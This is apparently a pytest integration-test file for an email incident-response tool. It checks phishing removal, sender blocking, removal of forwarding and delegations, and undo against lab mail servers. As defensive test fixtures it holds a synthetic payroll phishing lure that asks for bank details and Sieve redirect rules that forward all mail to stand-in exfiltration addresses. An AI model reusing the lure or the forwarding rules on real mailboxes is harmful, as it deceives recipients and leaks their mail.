"""The whole loop against a real Dovecot and Postfix: mail delivered over LMTP and
SMTP, read by heron over IMAP, investigated, acted on after approval, verified,
and undone."""

from __future__ import annotations

import json
import os
import smtplib
import subprocess
import sys
import textwrap
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pytest
from imapclient import IMAPClient
from sievelib.managesieve import Client as SieveClient
from sqlalchemy import select

from heron.engine.service import Heron
from heron.errors import ActionError, PermissionDenied
from heron.samples.org import user_report
from heron.store import models as m
from tests.maillab import DOMAIN, MASTER_PASSWORD, PASSWORD, Lab, addresses
from tests.mailserver.conftest import PHISH_URL

pytestmark = pytest.mark.mailserver

SENDER = "payroll@payroll-check.test"
DELETED = "Recoverable Items"


def phish(tag: str, to: str) -> bytes:
    message = EmailMessage()
    message["From"] = f"Payroll Team <{SENDER}>"
    message["To"] = to
    message["Subject"] = f"Action required: confirm your salary account ({tag})"
    message["Message-ID"] = f"<{tag}@payroll-check.test>"
    message["Date"] = format_datetime(
        __import__("datetime").datetime.now().astimezone()
    )
    message.set_content(
        "Your salary payment is on hold. Confirm your bank details at "
        f"{PHISH_URL} within 24 hours (reference {tag}) or the payment is returned.\n"
    )
    return message.as_bytes()


def user_imap(lab: Lab, user: str) -> IMAPClient:
    client = IMAPClient("127.0.0.1", port=lab.dovecot.imap_port, ssl=False)
    client.login(user, PASSWORD)
    return client


def copies_by_folder(lab: Lab, user: str, message_id: str) -> dict[str, int]:
    """How many copies of the message each folder of the user's mailbox holds."""
    counts = {}
    with user_imap(lab, user) as client:
        for _, _, folder in client.list_folders():
            client.select_folder(folder, readonly=True)
            found = client.search(["HEADER", "Message-ID", message_id])
            if found:
                counts[folder] = len(found)
    return counts


def reported_copy(lab: Lab, user: str, message_id: str) -> bytes:
    with user_imap(lab, user) as client:
        client.select_folder("INBOX", readonly=True)
        uid = client.search(["HEADER", "Message-ID", message_id])[0]
        return client.fetch([uid], ["BODY.PEEK[]"])[uid][b"BODY[]"]


def report_and_process(heron: Heron, lab: Lab, user: str, message_id: str) -> int:
    heron.report(user_report(user, reported_copy(lab, user, message_id)))
    touched = heron.process()
    assert touched
    return touched[-1]


def actions_of(heron: Heron, investigation_id: int, kind: str) -> list[m.Action]:
    with heron.store.session() as session:
        rows = session.scalars(
            select(m.Action)
            .where(m.Action.investigation_id == investigation_id, m.Action.type == kind)
            .order_by(m.Action.id)
        ).all()
        session.expunge_all()
        return list(rows)


def covered_mailboxes(heron: Heron, action: m.Action) -> set[str]:
    with heron.store.session() as session:
        return {session.get(m.Copy, c).mailbox for c in action.params["copies"]}


def test_a_reported_phish_is_soft_deleted_from_every_mailbox_and_put_back(
    lab, heron_for, caplog
):
    caplog.set_level("DEBUG")
    heron = heron_for("loop")
    users = addresses("loop")
    lab.dovecot.deliver(phish("loop1", users[0]), SENDER, users)
    polled = heron.poll()
    assert polled.copies == 3 and not polled.errors

    investigation_id = report_and_process(
        heron, lab, users[0], "<loop1@payroll-check.test>"
    )
    deletes = actions_of(heron, investigation_id, "soft_delete")
    assert deletes and all(a.status == "pending" for a in deletes)
    assert set(users) <= set().union(*(covered_mailboxes(heron, a) for a in deletes))
    for user in users:  # nothing moves before a person approves
        assert copies_by_folder(lab, user, "<loop1@payroll-check.test>") == {"INBOX": 1}

    moved = {}
    for action in deletes:
        done = heron.approve(action.id, by="approver", comment="campaign")
        assert done.status == "completed"
        for target in done.result["targets"]:
            if target["status"] == "done":
                assert target["verified"] == "in deleted"
                moved[target["mailbox"]] = moved.get(target["mailbox"], 0) + 1
            else:  # a later cluster's delete finds the copies already gone
                assert target["status"] == "already gone"
    assert moved == {user: 1 for user in users}
    for user in users:
        assert copies_by_folder(lab, user, "<loop1@payroll-check.test>") == {DELETED: 1}
    with heron.store.session() as session:
        # The block of the sender still waits for a person.
        assert session.get(m.Investigation, investigation_id).status == "pending action"

    for action in reversed(deletes):
        assert heron.undo(action.id, by="approver").status == "undone"
    for user in users:
        assert copies_by_folder(lab, user, "<loop1@payroll-check.test>") == {"INBOX": 1}

    # The master password reached the server, and nowhere else.
    database = Path(heron.settings.resolved_database_url.removeprefix("sqlite:///"))
    assert MASTER_PASSWORD.encode() not in database.read_bytes()
    assert MASTER_PASSWORD not in caplog.text


def test_an_outside_forward_made_in_sieve_is_alerted_turned_off_and_put_back(
    lab, heron_for
):
    heron = heron_for("forward")
    (user,) = addresses("forward")
    script = (
        'require ["copy"];\n'
        "# sends everything on\n"
        'redirect :copy "collector@exfil.test";\n'
        f'if header :contains "subject" "team" {{ redirect "desk@{DOMAIN}"; }}\n'
    )
    sieve = SieveClient("127.0.0.1", lab.dovecot.sieve_port)
    assert sieve.connect(user, PASSWORD, starttls=False, authmech="PLAIN")
    assert sieve.putscript("rules", script) and sieve.setactive("rules")
    heron.poll()  # the mailbox becomes known to heron

    scan = heron.scan_mailboxes()
    assert scan.events == 1 and scan.forwards == 2 and not scan.errors
    assert heron.scan_mailboxes().events == 0  # seen before: not raised again
    touched = heron.process()
    with heron.store.session() as session:
        alert = session.scalar(
            select(m.Alert).where(m.Alert.investigation_id == touched[0])
        )
        assert alert.policy == "Suspicious email forwarding activity"
        assert alert.severity == "high"
        investigation = session.get(m.Investigation, touched[0])
        assert investigation.playbook == "compromised-user"
        assert investigation.verdict == "malicious"
    (action,) = actions_of(heron, touched[0], "disable_forwarding")
    assert action.status == "pending"
    assert action.target == f"{user} to collector@exfil.test"

    redirected = lab.dovecot.root / "redirected.mbox"
    before = redirected.stat().st_size
    done = heron.approve(action.id, by="approver")
    assert done.status == "completed"
    assert (
        done.result["targets"][0]["verified"]
        == "no forwarding outside the organisation left"
    )
    changed = sieve.getscript("rules")
    assert "exfil.test" not in changed and f"desk@{DOMAIN}" in changed
    lab.dovecot.deliver(phish("fwd-after", user), SENDER, [user])
    assert redirected.stat().st_size == before  # nothing left for outside

    assert heron.undo(action.id, by="approver").status == "undone"
    assert (
        sieve.getscript("rules") == script.rstrip("\n")
        or sieve.getscript("rules") == script
    )
    lab.dovecot.deliver(phish("fwd-undone", user), SENDER, [user])
    assert "collector@exfil.test" in redirected.read_text()[before:]


def test_a_delegation_is_found_removed_and_granted_again(lab, heron_for):
    heron = heron_for("delegation")
    owner, delegate = addresses("delegation")
    with user_imap(lab, owner) as client:
        client.setacl("INBOX", delegate, "lrs")
    heron.poll()
    scan = heron.scan_mailboxes()
    assert scan.delegations == 1 and scan.events == 1
    touched = heron.process()
    actions = [a for i in touched for a in actions_of(heron, i, "remove_delegation")]
    (action,) = actions
    assert action.params["delegation"]["grantee"] == delegate

    assert heron.approve(action.id, by="approver").status == "completed"
    with user_imap(lab, owner) as client:
        assert delegate.encode() not in dict(client.getacl("INBOX"))
    assert heron.undo(action.id, by="approver").status == "undone"
    with user_imap(lab, owner) as client:
        assert dict(client.getacl("INBOX"))[delegate.encode()] == b"lrs"


def test_block_sender_is_refused_by_postfix_until_undone(lab, heron_for):
    heron = heron_for("block")
    (user,) = addresses("block")
    lab.postfix.send(phish("block1", user), SENDER, [user])
    _wait_for(lambda: copies_by_folder(lab, user, "<block1@payroll-check.test>"))
    heron.poll()
    investigation_id = report_and_process(
        heron, lab, user, "<block1@payroll-check.test>"
    )
    (block,) = actions_of(heron, investigation_id, "block_sender")
    assert block.target == SENDER

    done = heron.approve(block.id, by="approver")
    assert done.status == "completed"
    assert {t["where"] for t in done.result["targets"]} == {"heron block list", "mx"}
    with pytest.raises((smtplib.SMTPRecipientsRefused, smtplib.SMTPSenderRefused)):
        lab.postfix.send(phish("block2", user), SENDER, [user])
    # Another sender still gets through.
    lab.postfix.send(phish("block3", user), "friend@partner.test", [user])

    assert heron.undo(block.id, by="approver").status == "undone"
    lab.postfix.send(phish("block4", user), SENDER, [user])
    _wait_for(lambda: copies_by_folder(lab, user, "<block4@payroll-check.test>"))


def test_block_domain_refuses_every_sender_of_it_until_undone(lab, heron_for):
    heron = heron_for("block")
    (user,) = addresses("block")
    lab.postfix.send(phish("dom1", user), SENDER, [user])
    _wait_for(lambda: copies_by_folder(lab, user, "<dom1@payroll-check.test>"))
    heron.poll()
    investigation_id = report_and_process(heron, lab, user, "<dom1@payroll-check.test>")
    with pytest.raises(ActionError, match="shared by unrelated senders"):
        heron.propose_block_domain(investigation_id, "gmail.com", by="analyst")
    with pytest.raises(ActionError, match="organisation's own"):
        heron.propose_block_domain(investigation_id, DOMAIN, by="analyst")
    action = heron.propose_block_domain(
        investigation_id, "payroll-check.test", by="analyst"
    )
    assert action.status == "pending"

    assert heron.approve(action.id, by="approver").status == "completed"
    with pytest.raises((smtplib.SMTPRecipientsRefused, smtplib.SMTPSenderRefused)):
        lab.postfix.send(phish("dom2", user), "other@payroll-check.test", [user])
    assert heron.undo(action.id, by="approver").status == "undone"
    lab.postfix.send(phish("dom3", user), "other@payroll-check.test", [user])
    _wait_for(lambda: copies_by_folder(lab, user, "<dom3@payroll-check.test>"))


def test_hard_delete_needs_the_purge_permission_and_cannot_be_undone(lab, heron_for):
    heron = heron_for("purge")
    users = addresses("purge")
    lab.dovecot.deliver(phish("purge1", users[0]), SENDER, users)
    heron.poll()
    investigation_id = report_and_process(
        heron, lab, users[0], "<purge1@payroll-check.test>"
    )
    soft = actions_of(heron, investigation_id, "soft_delete")[0]
    hard = heron.propose_hard_delete(soft.id, by="analyst")
    assert hard.status == "pending" and hard.type == "hard_delete"

    with pytest.raises(PermissionDenied, match="purge permission"):
        heron.approve(hard.id, by="approver")
    for user in users:
        assert copies_by_folder(lab, user, "<purge1@payroll-check.test>") == {
            "INBOX": 1
        }

    done = heron.approve(hard.id, by="purger")
    assert done.status == "completed"
    assert all(t["verified"] == "no copy left" for t in done.result["targets"])
    for user in users:
        assert copies_by_folder(lab, user, "<purge1@payroll-check.test>") == {}
    with pytest.raises(ActionError, match="cannot be undone"):
        heron.undo(hard.id, by="purger")
    with pytest.raises(ActionError, match="deleted its copies for good"):
        heron.undo(soft.id, by="approver")


CRASHING_RUN = textwrap.dedent(
    """
    import json, os, signal, sys
    from heron.config import Settings
    from heron.connectors.dovecot import DovecotConnector
    from heron.engine.service import Heron

    settings = Settings(**json.loads(open(sys.argv[1]).read()))
    stop_after = int(sys.argv[3])
    moved = []
    real_move = DovecotConnector.move

    def move(self, *args, **kwargs):
        outcome = real_move(self, *args, **kwargs)
        if outcome.status.value == "done":
            moved.append(outcome)
        if len(moved) == stop_after:
            # The copy has moved on the server; heron has not recorded it yet.
            os.kill(os.getpid(), signal.SIGKILL)
        return outcome

    DovecotConnector.move = move
    heron = Heron(settings)
    heron.approve(int(sys.argv[2]), by="approver")
    """
)


def test_a_soft_delete_killed_half_way_moves_every_copy_exactly_once(
    lab, heron_for, tmp_path
):
    heron = heron_for("crash")
    users = addresses("crash")
    lab.dovecot.deliver(phish("crash1", users[0]), SENDER, users)
    assert heron.poll().copies == 50
    investigation_id = report_and_process(
        heron, lab, users[0], "<crash1@payroll-check.test>"
    )
    action = next(
        a
        for a in actions_of(heron, investigation_id, "soft_delete")
        if covered_mailboxes(heron, a) == set(users)
    )
    config = tmp_path / "settings.json"
    config.write_text(heron.settings.model_dump_json())

    run = subprocess.run(
        [sys.executable, "-c", CRASHING_RUN, str(config), str(action.id), "25"],
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert run.returncode == -9, run.stderr[-2000:]
    with heron.store.session() as session:
        interrupted = session.get(m.Action, action.id)
        assert interrupted.status == "running"
        recorded = [t["status"] for t in interrupted.result["targets"]]
    # The 25th move happened on the server and was never recorded. (On a loaded
    # machine a move can also fail and be recorded as failed; a retry redoes it.)
    assert recorded.count("done") == 24
    moved_so_far = sum(
        copies_by_folder(lab, u, "<crash1@payroll-check.test>").get(DELETED, 0)
        for u in users
    )
    assert moved_so_far == 25

    finished = heron.execute(action.id)
    for _ in range(3):  # what an operator does after a failure: retry
        if finished.status == "completed":
            break
        finished = heron.execute(action.id)
    assert finished.status == "completed"
    statuses = [t["status"] for t in finished.result["targets"]]
    assert len(statuses) == 50 and set(statuses) <= {"done", "already in destination"}
    assert statuses.count("already in destination") >= 1
    for user in users:
        assert copies_by_folder(lab, user, "<crash1@payroll-check.test>") == {
            DELETED: 1
        }


def test_polling_reads_only_what_arrived_since_the_last_poll(lab, heron_for):
    heron = heron_for("poll")
    (user,) = addresses("poll")
    lab.dovecot.deliver(phish("poll1", user), SENDER, [user])
    lab.dovecot.deliver(phish("poll2", user), SENDER, [user])
    first = heron.poll()
    assert first.copies == 2
    again = heron.poll()
    assert again.copies == 0 and again.duplicates == 0  # nothing fetched twice
    lab.dovecot.deliver(phish("poll3", user), SENDER, [user])
    third = heron.poll()
    assert third.copies == 1 and third.duplicates == 0
    with heron.store.session() as session:
        state = session.get(m.SyncState, ("lab", user)).state
    assert state["INBOX"]["uid"] >= 3
    assert json.dumps(state)  # kept as plain data


def _wait_for(condition, timeout: float = 20.0) -> None:
    import time

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if condition():
            return
        time.sleep(0.2)
    raise AssertionError("the mail did not arrive in time")


def test_tls_with_the_server_s_certificate_as_ca_file_and_refused_without_it(
    lab, tmp_path, monkeypatch
):
    from heron.config import DovecotSettings
    from heron.connectors.dovecot import DovecotConnector
    from heron.errors import ConnectorError
    from tests.maillab import MASTER, MASTER_PASSWORD

    (user,) = addresses("poll")
    monkeypatch.setenv("HERON_SECRET_LAB", MASTER_PASSWORD)
    secure = {
        "type": "dovecot",
        "name": "tls",
        "host": "127.0.0.1",
        "imap_port": lab.dovecot.imaps_port,
        "imap_tls": "implicit",
        "sieve_port": lab.dovecot.sieve_port,
        "sieve_tls": "starttls",
        "master_user": MASTER,
        "password_env": "HERON_SECRET_LAB",
        "users": [user],
    }
    checked = DovecotConnector(
        DovecotSettings(**secure, ca_file=lab.dovecot.certificate)
    )
    assert checked.list_mailboxes() == [user]
    assert checked.find(user, "0" * 64, "<none@payroll-check.test>") == []
    assert checked.forwarding(user, frozenset({DOMAIN})) == []
    on_starttls = DovecotConnector(
        DovecotSettings(
            **{**secure, "imap_port": lab.dovecot.imap_port, "imap_tls": "starttls"},
            ca_file=lab.dovecot.certificate,
        )
    )
    assert on_starttls.find(user, "0" * 64, "<none@payroll-check.test>") == []
    # Certificate checks are on by default: the system's CAs do not know this one.
    unchecked = DovecotConnector(DovecotSettings(**secure))
    with pytest.raises(ConnectorError, match="CERTIFICATE_VERIFY_FAILED|certificate"):
        unchecked.find(user, "0" * 64, "<none@payroll-check.test>")
    with pytest.raises(ConnectorError, match="certificate|TLS"):
        unchecked.forwarding(user, frozenset({DOMAIN}))
    error = ""
    try:
        unchecked.find(user, "0" * 64, "<x@y.test>")
    except ConnectorError as exc:
        error = str(exc)
    assert MASTER_PASSWORD not in error


def test_blocking_a_sender_can_hold_its_mail_already_queued(lab, tmp_path):
    import subprocess as run

    from heron.config import PostfixSettings
    from heron.connectors.postfix import PostfixConnector

    spammer = "bulk@flood-sender.test"
    lab.postfix.send(
        phish("hold1", "someone@stuck.test"), spammer, ["someone@stuck.test"]
    )
    lab.postfix.send(
        phish("hold2", "someone@stuck.test"), "ok@fine.test", ["someone@stuck.test"]
    )

    def queued() -> dict[str, str]:
        return {str(e["sender"]): str(e["queue_name"]) for e in lab.postfix.queue()}

    _wait_for(lambda: set(queued()) == {spammer, "ok@fine.test"})
    connector = PostfixConnector(
        PostfixSettings(
            type="postfix",
            name="mx",
            access_map=tmp_path / "hold_access",
            config_dir=lab.postfix.etc,
            hold_queued=True,
        )
    )
    try:
        blocked = connector.block("sender", spammer, "action 1")
        assert "1 queued message(s) held" in blocked.detail
        assert queued()[spammer] == "hold" and queued()["ok@fine.test"] != "hold"
        released = connector.unblock("sender", spammer)
        assert "1 held message(s) released" in released.detail
        assert queued()[spammer] != "hold"
    finally:
        run.run(
            ["postsuper", "-c", str(lab.postfix.etc), "-d", "ALL"], capture_output=True
        )


@pytest.mark.parametrize(
    "message_id", ["ünï-1@odd.test", "a)b{5}@odd.test", 'quote"d\\@odd.test']
)
def test_a_message_id_imap_search_cannot_carry_is_still_found_and_moved_once(
    lab, monkeypatch, message_id
):
    import hashlib

    from heron.config import DovecotSettings
    from heron.connectors.base import CopyRef, OutcomeStatus
    from heron.connectors.dovecot import DovecotConnector
    from heron.domain.verdicts import Location

    (user,) = addresses("odd")
    monkeypatch.setenv("HERON_SECRET_LAB", MASTER_PASSWORD)
    raw = (
        f"From: a@outside.test\r\nTo: {user}\r\nSubject: odd id\r\n"
        f"Message-ID: <{message_id}>\r\n\r\nbody\r\n"
    ).encode()
    lab.dovecot.deliver(raw, "a@outside.test", [user])
    connector = DovecotConnector(
        DovecotSettings(**{**lab.connectors("odd")[0], "type": "dovecot"})
    )
    stored = [
        f
        for f, _ in connector.fetch_new(user, {})
        if f and message_id.encode() in f.raw
    ]
    sha = hashlib.sha256(stored[-1].raw).hexdigest()
    (found,) = connector.find(user, sha, message_id)
    moved = connector.move(found, Location.DELETED, sha, message_id)
    assert moved.status is OutcomeStatus.DONE
    stale = CopyRef(user, found.locator, Location.INBOX)
    assert connector.move(stale, Location.DELETED, sha, message_id).status is (
        OutcomeStatus.ALREADY_THERE
    )
    assert connector.purge(moved.copy, sha, message_id).status is OutcomeStatus.DONE
    assert connector.find(user, sha, message_id) == []


def test_a_sieve_script_heron_cannot_read_is_an_error_not_a_clean_mailbox(
    lab, monkeypatch
):
    from heron.config import DovecotSettings
    from heron.connectors.dovecot import DovecotConnector

    (user,) = addresses("odd")
    monkeypatch.setenv("HERON_SECRET_LAB", MASTER_PASSWORD)
    sieve = SieveClient("127.0.0.1", lab.dovecot.sieve_port)
    assert sieve.connect(user, PASSWORD, starttls=False, authmech="PLAIN")
    assert sieve.putscript('rules"1', 'redirect "drop@evil.test";\n')
    connector = DovecotConnector(
        DovecotSettings(**{**lab.connectors("odd")[0], "type": "dovecot"})
    )
    try:
        (unreadable,) = connector.forwarding(user, frozenset({DOMAIN}))
        assert unreadable.external == ("?",) and "cannot be read" in (
            unreadable.description
        )
        assert "rules" in unreadable.ident
    finally:
        for name in sieve.listscripts()[1]:
            sieve.deletescript(name)


def test_undo_returns_a_copy_to_the_folder_it_was_in(lab, monkeypatch):
    import hashlib

    from heron.config import DovecotSettings
    from heron.connectors.base import OutcomeStatus
    from heron.connectors.dovecot import DovecotConnector
    from heron.domain.verdicts import Location

    (user,) = addresses("odd")
    monkeypatch.setenv("HERON_SECRET_LAB", MASTER_PASSWORD)
    raw, message_id = phish("archived1", user), "archived1@payroll-check.test"
    lab.dovecot.deliver(raw, SENDER, [user])
    with user_imap(lab, user) as client:
        if not client.folder_exists("Archive"):
            client.create_folder("Archive")
        client.select_folder("INBOX")
        client.move(client.search(["HEADER", "Message-ID", message_id]), "Archive")
    connector = DovecotConnector(
        DovecotSettings(**{**lab.connectors("odd")[0], "type": "dovecot"})
    )
    with connector._imap(user) as client:
        client.select_folder("Archive", readonly=True)
        uid = client.search(["HEADER", "Message-ID", message_id])[0]
        sha = hashlib.sha256(
            client.fetch([uid], ["BODY.PEEK[]"])[uid][b"BODY[]"]
        ).hexdigest()
    (found,) = connector.find(user, sha, message_id)
    assert found.locator.endswith(":Archive") and found.location is Location.INBOX
    deleted = connector.move(found, Location.DELETED, sha, message_id)
    back = connector.move(
        deleted.copy, Location.INBOX, sha, message_id, origin=found.locator
    )
    assert back.status is OutcomeStatus.DONE
    assert copies_by_folder(lab, user, f"<{message_id}>") == {"Archive": 1}


def test_a_forward_alerts_when_its_script_becomes_active_and_undo_keeps_later_edits(
    lab, heron_for
):
    heron = heron_for("forward2")
    (user,) = addresses("forward2")
    sieve = SieveClient("127.0.0.1", lab.dovecot.sieve_port)
    assert sieve.connect(user, PASSWORD, starttls=False, authmech="PLAIN")
    assert sieve.putscript("later", 'redirect "thief@exfil.test";\n')
    heron.poll()
    assert heron.scan_mailboxes().events == 0  # not active: nothing leaves yet
    assert sieve.setactive("later")
    assert heron.scan_mailboxes().events == 1
    touched = heron.process()
    (action,) = actions_of(heron, touched[0], "disable_forwarding")
    assert heron.approve(action.id, by="approver").status == "completed"

    edited = 'require ["fileinto"];\nfileinto "Junk";\n'
    assert sieve.putscript("later", edited)  # the owner rewrote it since
    undone = heron.undo(action.id, by="approver")
    assert undone.status == "completed"  # the undo failed, and says why
    assert (
        "changed after heron turned its forwarding off"
        in (undone.result["undo"][0]["detail"])
    )
    assert sieve.getscript("later").strip() == edited.strip()


def test_a_folder_heron_may_not_read_does_not_stop_the_poll(lab, heron_for):
    heron = heron_for("sealed")
    (user,) = addresses("sealed")
    with user_imap(lab, user) as client:
        client.create_folder("0sealed")
        client.setacl("0sealed", user, "lka")  # the owner takes away its own read
    lab.dovecot.deliver(phish("sealed1", user), SENDER, [user])
    polled = heron.poll()
    assert polled.copies == 1
    assert any("0sealed" in e and "cannot be read" in e for e in polled.errors)
